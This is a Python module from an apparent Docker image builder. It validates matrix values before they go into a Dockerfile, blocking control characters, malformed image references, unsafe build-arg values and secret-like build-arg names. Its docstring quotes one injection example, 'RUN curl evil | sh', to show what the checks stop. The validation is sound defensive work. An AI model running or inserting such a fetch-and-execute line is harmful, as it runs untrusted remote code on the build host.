"""Strings of a matrix that reach a Dockerfile, validated before anything is rendered: a matrix is
data a pull request can change, and a newline in a value would start a new Dockerfile
instruction (``RUN curl evil | sh``) in the rendered file.

Rules (each problem located like every matrix problem, exit 10):

- no control character (C0, DEL, C1: newline, carriage return, escape, ...) in any key or value
  of the document: no field has a use for one, and they inject instructions or terminal escapes;
- ``base`` values are image references with ``{placeholder}`` s: only the characters a reference
  has (https://github.com/distribution/reference/blob/main/regexp.go) plus ``{}``;
- ``build_args`` names are Dockerfile ``ARG`` names (letters, digits, ``_``; not starting with a
  digit); values are written inside ``"..."``, so no ``"``, ``\\`` or ``$`` (quoting and
  variable expansion: https://docs.docker.com/reference/dockerfile/#environment-replacement);
- a build arg whose name looks like a secret is refused: build args persist in the image config,
  its history and the build log. The name rule is BuildKit's ``SecretsUsedInArgOrEnv`` check
  (https://docs.docker.com/reference/build-checks/secrets-used-in-arg-or-env/, added in
  https://github.com/moby/buildkit/pull/5105): a ``_``-separated word ``apikey``, ``auth``,
  ``credential(s)``, ``key``, ``password``, ``pword``, ``passwd``, ``secret`` or ``token``; pass
  such values as BuildKit secrets (``RUN --mount=type=secret``) instead.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from builder.matrix.validate import Report

CONTROL_RE = re.compile(r"[\x00-\x1f\x7f-\x9f]")
"""Control characters (C0, DEL, C1)."""

BASE_RE = re.compile(r"^[A-Za-z0-9._:/@{}-]+$")
"""What a ``base`` template may hold: reference characters and ``{placeholder}`` braces."""

ARG_NAME_RE = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*$")
"""A Dockerfile ``ARG`` name builder writes."""

ARG_VALUE_FORBIDDEN = frozenset('"\\$')
"""Characters a build arg value may not hold (it is written inside ``"..."``)."""

SECRET_NAME_RE = re.compile(
    r"(?:_|^)(?:apikey|auth|credential|credentials|key|password|pword|passwd|secret|token)(?:_|$)", re.IGNORECASE
)
"""A build arg name that looks like a secret (BuildKit's SecretsUsedInArgOrEnv words, module docstring)."""


def _visible(text: str) -> str:
    """``text`` with control characters shown as escapes (``\\n``), for a problem message."""
    return text.encode("unicode_escape").decode("ascii")


def check_strings(raw: Mapping[str, object], add: Report) -> None:
    """Report every string of ``raw`` (the matrix document) that breaks the module's rules."""

    def walk(node: object, path: tuple[str | int, ...]) -> None:
        if isinstance(node, Mapping):
            for k, v in node.items():
                if isinstance(k, str) and CONTROL_RE.search(k):
                    add(path, f"key {_visible(k)!r} holds a control character (newline, escape, ...)")
                walk(v, (*path, str(k)))
        elif isinstance(node, list):
            for i, v in enumerate(node):
                walk(v, (*path, i))
        elif isinstance(node, str) and CONTROL_RE.search(node):
            add(
                path,
                f"{_visible(node)!r} holds a control character (newline, escape, ...): it would inject "
                "Dockerfile instructions or terminal escapes; write it on one line",
            )

    walk(raw, ())
    base = raw.get("base")
    if isinstance(base, Mapping):
        for k, v in base.items():
            if isinstance(v, str) and not CONTROL_RE.search(v) and not BASE_RE.match(v):
                add(
                    ("base", str(k)),
                    f"{v!r} is not an image reference template (letters, digits, . _ : / @ - and "
                    "{placeholders}; no spaces or quotes)",
                )
    args = raw.get("build_args")
    if isinstance(args, Mapping):
        for name, value in args.items():
            where = ("build_args", str(name))
            if not ARG_NAME_RE.match(str(name)):
                add(where, f"build arg name {_visible(str(name))!r} is not an ARG name (letters, digits, _)")
            elif SECRET_NAME_RE.search(str(name)):
                add(
                    where,
                    f"build arg {name} looks like a secret: build args stay in the image config, its history "
                    "and the build log; pass it as a BuildKit secret (RUN --mount=type=secret,id=...) instead",
                )
            if isinstance(value, str) and ARG_VALUE_FORBIDDEN.intersection(value):
                add(where, f'{value!r} holds " \\ or $: a build arg value is written inside "..." in the Dockerfile')
